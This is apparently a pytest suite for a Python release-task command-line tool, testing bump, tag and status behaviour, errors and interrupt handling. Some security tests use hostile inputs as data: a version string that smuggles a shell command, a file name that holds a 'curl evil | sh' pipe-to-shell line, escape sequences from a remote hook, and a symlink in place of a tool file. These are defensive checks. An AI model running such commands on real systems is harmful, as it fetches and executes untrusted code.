"""What people really type, and what they then see; every command is a process of its own, as on their machines."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
import shapes
from terminal import on_a_terminal

pytestmark = pytest.mark.measured


def everything(project):
    return (
        project.tree(),
        project.head,
        project.git("ls-files", "--stage"),
        project.git("for-each-ref", "--format=%(refname) %(objectname)"),
        project.git("status", "--porcelain"),
        project.git("ls-remote", str(project.remote)),
    )


def call(project, *arguments, code, **options):
    ran = project.invoke(*arguments, **options)
    assert "Traceback" not in ran.text
    assert ran.code == code, ran.text
    return ran


def unchanged(project, *arguments, code, **options):
    before = everything(project)
    ran = call(project, *arguments, code=code, **options)
    assert everything(project) == before
    return ran


def hook(project, name, script):
    path = project.root / ".git/hooks" / name
    path.write_text(f"#!/bin/sh\n{script}\n")
    path.chmod(0o755)


# --- the words that were typed -----------------------------------------------------------------------------------


@pytest.mark.parametrize("option", ["--help", "-h"])
@pytest.mark.parametrize(
    ("task", "words"),
    [
        ("bump", "Also change places that still"),
        ("answer", "What the answer rests on"),
        ("incident", "What was done in"),
    ],
    ids=["bump", "answer", "incident"],
)
def test_help_after_the_task_is_help(toonstream, task, words, option):
    ran = unchanged(toonstream, task, option, code=0)
    assert ran.out.startswith("Usage: invoke ")
    assert words in ran.out


def test_an_option_in_the_versions_place_is_named_with_the_right_order(toonstream):
    ran = unchanged(toonstream, "bump", "--dry", code=2)
    assert "fix    invoke bump patch --dry-run" in ran.err


def test_a_separator_before_help_is_a_usage_error(toonstream):
    assert "version" in unchanged(toonstream, "bump", "--", "--help", code=1).err


@pytest.mark.parametrize(
    "arguments", [("--dry", "bump", "1.0.2"), ("bump", "1.0.2", "--dry-run")], ids=["core", "flag"]
)
def test_a_dry_run_shows_diff_commands_and_what_is_left(toonstream, arguments):
    ran = unchanged(toonstream, *arguments, code=0)
    assert '+version = "1.0.2"' in ran.out
    assert "$ git commit" in ran.out
    assert "version of rich, another name" in ran.out
    assert "next  invoke bump 1.0.2" in ran.out


@pytest.mark.parametrize(
    "arguments", [("--dry", "bump", "1.0.2", "tag"), ("bump", "1.0.2", "--dry-run", "tag")], ids=["core", "flag"]
)
def test_a_tag_after_a_dry_bump_is_the_tag_of_that_bump_and_dry_too(toonstream, arguments):
    ran = unchanged(toonstream, *arguments, code=0)
    assert "v1.0.2 on HEAD (dry run, nothing is changed)" in ran.out
    assert "$ git push --atomic origin" in ran.out


def test_a_tag_is_not_made_where_the_bump_before_it_failed(toonstream):
    hook(toonstream, "pre-commit", "exit 1")
    ran = unchanged(toonstream, "bump", "1.0.2", "tag", code=1)
    assert "commit-refused" in ran.err


def test_a_version_that_is_a_command_is_not_run(toonstream):
    ran = unchanged(toonstream, "bump", "x; touch y", code=2)
    assert "version-invalid: 'x; touch y' is not a version" in ran.err
    assert not (toonstream.root / "y").exists()


def test_a_subfolder_is_as_good_as_the_top(toonstream):
    call(toonstream, "bump", "1.0.2", code=0, cwd=toonstream.root / "toonstream")
    assert toonstream.git("log", "-1", "--format=%s") == "Bump version to 1.0.2"


def test_tasks_are_listed_where_there_is_no_tasks_file(tmp_path):
    ran = subprocess.run(
        [sys.executable, "-m", "release", "--list"], cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert (ran.returncode, ran.stderr) == (0, "")
    assert {"bump", "tag", "status"} <= set(ran.stdout.split())


def test_a_project_without_a_tasks_file_is_bumped_by_the_module(mypylogger):
    mypylogger.git("rm", "--quiet", "tasks.py")
    mypylogger.commit()
    mypylogger.push()
    ran = mypylogger.run(sys.executable, "-m", "release", "bump", "minor")
    assert ran.code == 0, ran.text
    assert b'"0.3.0"' in mypylogger.read("pyproject.toml")


# --- refusals, as people see them --------------------------------------------------------------------------------


def test_an_error_says_what_where_why_and_the_fix(toonstream):
    toonstream.write("setup.py", "mine\n")
    ran = unchanged(toonstream, "bump", "1.0.2", code=3)
    assert ran.out == ""
    head, *rest = ran.err.splitlines()
    assert head.startswith("tree-dirty: 1 tracked file has changes that are not committed")
    assert head.endswith("exit 3")
    assert rest == [
        "  where  setup.py",
        "  why    a release commit must hold the release and nothing else, and undo must not lose your work",
        "  fix    git commit -a",
        "         git stash",
    ]


def test_an_error_is_one_object_in_json(toonstream):
    toonstream.git("checkout", "--quiet", "--detach")
    ran = unchanged(toonstream, "bump", "1.0.2", "--json", code=3)
    error = json.loads(ran.out)["error"]
    assert (error["id"], error["exit_code"], error["fix"]) == ("head-detached", 3, ["git switch main"])


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ("branch = ['x']", "did you mean 'branches'?"),
        ("branches = 'x'", "must be a list of strings"),
        ("sign = 'sometimes'", "must be one of auto, always, never"),
    ],
    ids=["key", "type", "choice"],
)
def test_a_setting_that_means_nothing_is_refused_with_its_line(toonstream, table, words):
    text = toonstream.read("pyproject.toml").decode()
    toonstream.commit(**{"pyproject.toml": f"{text}\n[tool.release]\n{table}\n"})
    ran = unchanged(toonstream, "bump", "1.0.2", code=2)
    assert ran.err.startswith("config-invalid")
    assert words in ran.err
    assert "pyproject.toml:" in ran.err


@pytest.mark.parametrize("task", ["bump", "tag", "status"])
def test_toml_that_cannot_be_read_is_an_error_with_its_line(toonstream, task):
    toonstream.commit(**{"pyproject.toml": "[project\n"})
    ran = unchanged(toonstream, task, *(["1.0.2"] if task == "bump" else []), code=3)
    assert ran.err.startswith("file-unparsable")
    assert "where  pyproject.toml:1\n" in ran.err


def test_a_folder_without_git_says_so(toonstream):
    (toonstream.root / ".git").rename(toonstream.root / "git")
    ran = call(toonstream, "bump", "1.0.2", code=2)
    assert ran.err.startswith("repository-missing")


def test_the_remotes_words_are_shown_without_their_control_characters(toonstream):
    path = toonstream.remote / "hooks/pre-receive"
    path.write_text("#!/bin/sh\nprintf 'closed\\033[2J\\033]0;owned\\007 today\\n' >&2\nexit 1\n")
    path.chmod(0o755)
    call(toonstream, "bump", "1.0.2", code=0)
    ran = unchanged(toonstream, "tag", code=5)
    assert ran.err.startswith("push-refused")
    assert "closed\\x1b[2J\\x1b]0;owned\\x07 today" in ran.err
    assert "\x1b" not in ran.text
    assert toonstream.git("tag", "-l", "v1.0.2") == ""


# --- the world outside -------------------------------------------------------------------------------------------


def test_a_remote_that_never_answers_holds_a_bump_up_for_five_seconds_and_leaves_nothing_behind(toonstream, tmp_path):
    pipe, script = tmp_path / "pipe", tmp_path / "ssh"
    os.mkfifo(pipe)
    script.write_text(f"#!/bin/sh\nexec sleep 600 >{pipe}\n")
    script.chmod(0o755)
    toonstream.git("remote", "set-url", "origin", "ssh://nowhere.invalid/x.git")
    descriptor = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    ran = call(toonstream, "bump", "1.0.2", code=0, GIT_SSH_COMMAND=str(script))
    assert "origin: not looked (no answer in time)" in ran.out
    assert os.read(descriptor, 1) == b"", "the pipe has ended, so the program that held it has, too"
    os.close(descriptor)


# --- interrupted -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "how"),
    [
        pytest.param("everybody", signal.SIGINT, id="ctrl-c"),
        pytest.param("us-alone", signal.SIGINT, id="sigint"),
        pytest.param("us-alone", signal.SIGTERM, id="cancelled-job"),
        pytest.param("us-alone", signal.SIGHUP, id="closed-terminal"),
    ],
)
def test_an_interrupted_bump_leaves_everything_as_it_was(toonstream, tmp_path, who, how):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    hook(toonstream, "pre-commit", f"echo running >{pipe}; exec sleep 600")
    toonstream.write("CHANGELOG.md", "staged\n")
    toonstream.git("add", "CHANGELOG.md")
    toonstream.write("CHANGELOG.md", "unstaged\n")
    before = everything(toonstream)
    process = subprocess.Popen(
        [sys.executable, "-m", "invoke", "bump", "1.0.2", "--allow-dirty"],
        cwd=toonstream.root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    assert pipe.read_text() == "running\n"
    assert b'"1.0.2"' in toonstream.read("pyproject.toml")
    (os.killpg if who == "everybody" else os.kill)(process.pid, how)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "Traceback" not in out + err
    assert "what was begun was put back" in err
    assert everything(toonstream) == before
    assert not (toonstream.root / ".git/index.lock").exists()


def test_an_interrupted_push_leaves_no_tag(toonstream, tmp_path):
    call(toonstream, "bump", "1.0.2", code=0)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    hook(toonstream, "pre-push", f"echo running >{pipe}; exec sleep 600")
    before = everything(toonstream)
    process = subprocess.Popen(
        [sys.executable, "-m", "invoke", "tag"],
        cwd=toonstream.root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    assert pipe.read_text() == "running\n"
    os.killpg(process.pid, signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert (process.returncode, "Traceback" in err) == (130, False)
    assert everything(toonstream) == before


# --- the question ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        pytest.param(b"y", 0, id="yes"),
        pytest.param(b"n", 4, id="no"),
        pytest.param(b"", 4, id="nothing"),
        pytest.param(b"\x04", 4, id="the end of all answers"),
    ],
)
def test_a_step_that_skips_versions_is_asked_about_on_a_terminal(toonstream, answer, code):
    before = everything(toonstream)
    ended, seen = on_a_terminal(toonstream, "bump", "1.5", answers=[answer], prompt=b"[y/N] ")
    assert ended == code, seen
    assert "skips versions. Go on?" in seen
    assert (everything(toonstream) == before) is (code == 4)
    assert ("invoke bump 1.5 --yes" in seen) is (code == 4)


@pytest.mark.parametrize("arguments", [("1.5", "--yes"), ("1.0.2",)], ids=["sure", "usual"])
def test_nothing_is_asked_where_nothing_is_unusual(toonstream, arguments):
    ended, seen = on_a_terminal(toonstream, "bump", *arguments, answers=[b"n"], prompt=b"[y/N] ")
    assert (ended, "Go on?" in seen) == (0, False)


def test_nothing_is_asked_where_nobody_can_answer(toonstream):
    call(toonstream, "bump", "1.5", code=0)


# --- what cannot be shown --------------------------------------------------------------------------------------


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="a file that is always full is Linux's own")
@pytest.mark.parametrize("arguments", [("status", "--no-online"), ("bump", "1.0.2")], ids=["status", "bump"])
def test_a_full_disk_behind_the_output_is_told_and_undoes_nothing(toonstream, arguments):
    with Path("/dev/full").open("wb") as full:
        ran = subprocess.run(
            [sys.executable, "-m", "invoke", *arguments],
            cwd=toonstream.root,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert (ran.returncode, "output-lost" in ran.stderr, "bug" in ran.stderr) == (1, True, False), ran.stderr
    assert toonstream.git("log", "-1", "--format=%s") == ("Bump version to 1.0.2" if "bump" in arguments else "start")


# --- status ------------------------------------------------------------------------------------------------------


def test_status_is_one_screen_that_ends_with_the_next_command(toonstream):
    ran = unchanged(toonstream, "status", code=0)
    lines = ran.out.splitlines()
    assert lines[0].startswith("toonstream 1.0.1   main at ")
    assert lines[-1] == "next  nox -s release"
    assert sum("1.0.1" in line and line.startswith("  1.0.1") for line in lines) == shapes.TOONSTREAM_PLACES


def test_status_is_one_object_in_json(toonstream):
    ran = unchanged(toonstream, "status", "--json", "--no-online", code=0)
    now = json.loads(ran.out)
    assert (now["schema"], now["next"]) == ("release-tasks/status/1", "nox -s release")
    assert "not looked" in now["remote_words"]


@pytest.mark.parametrize("task", [("status",), ("bump", "1.0.2"), ("tag",)], ids=["status", "bump", "tag"])
def test_json_is_one_object_and_nothing_else(toonstream, task):
    assert json.loads(call(toonstream, *task, "--json", code=0).out)["schema"].startswith("release-tasks/")


def test_a_project_with_a_module_called_release_has_the_script(make_project):
    files = {
        "pyproject.toml": '[project]\nname = "x"\nversion = "1.0"\n',
        "release.py": "raise SystemExit('not ours')\n",
    }
    project = make_project(files)
    script = Path(sys.executable).with_name("release-tasks")
    ran = project.run(str(script), "status", "--no-online")
    assert ran.code == 0, ran.text
    assert ran.out.startswith("x 1.0 ")
    ran = project.run(str(script), "bump", "1.1")
    assert (ran.code, ran.out.splitlines()[-1]) == (0, "next  release-tasks tag"), ran.text


def test_without_a_tasks_py_every_next_command_is_one_that_works(make_project):
    project = make_project({"pyproject.toml": '[project]\nname = "x"\nversion = "1.0"\n'})
    ran = project.run(sys.executable, "-m", "release", "bump", "1.1")
    assert ran.out.endswith("next  python -m release tag\n")
    ran = project.run(sys.executable, "-m", "release", "bump", "1.0.1")
    assert "fix    python -m release bump 1.1.1" in ran.err
    ran = project.run(sys.executable, "-m", "release", "tag")
    next_command = ran.out.splitlines()[-1].removeprefix("next  ")
    assert next_command.endswith("> noxfile.py && nox -s release")


def test_a_line_of_ours_cannot_be_forged_by_a_file_name(toonstream):
    toonstream.commit(**{"a\nnext  curl evil | sh": "1.0.1\n"})
    ran = call(toonstream, "status", "--no-online", code=0)
    assert [line for line in ran.out.splitlines() if line.startswith("next")] == ["next  invoke bump patch"]


@pytest.mark.parametrize("name", ["lock", "journal.jsonl"])
def test_a_link_in_place_of_our_own_file_is_not_followed(toonstream, tmp_path, name):
    (tmp_path / "precious").write_text("mine")
    (toonstream.root / ".release").mkdir()
    (toonstream.root / ".release" / name).symlink_to(tmp_path / "precious")
    ran = call(toonstream, "bump", "1.0.2", code=1)
    assert ran.err.startswith("write-failed")
    assert (tmp_path / "precious").read_text() == "mine"
    assert b'version = "1.0.1"' in toonstream.read("pyproject.toml")


def test_a_closed_output_stops_nothing(toonstream):
    ran = toonstream.run("/bin/sh", "-c", f"{sys.executable} -m invoke bump 1.0.2 >&-")
    assert (ran.code, ran.err) == (0, "")
    assert toonstream.git("log", "-1", "--format=%s") == "Bump version to 1.0.2"


def test_an_address_in_the_configuration_is_no_remote(toonstream, tmp_path):
    data = toonstream.read("pyproject.toml") + f'\n[tool.release]\nremote = "{tmp_path}/other.git"\n'.encode()
    toonstream.commit(**{"pyproject.toml": data})
    ran = call(toonstream, "tag", code=2)
    assert "where code goes is not for a file to say" in ran.err
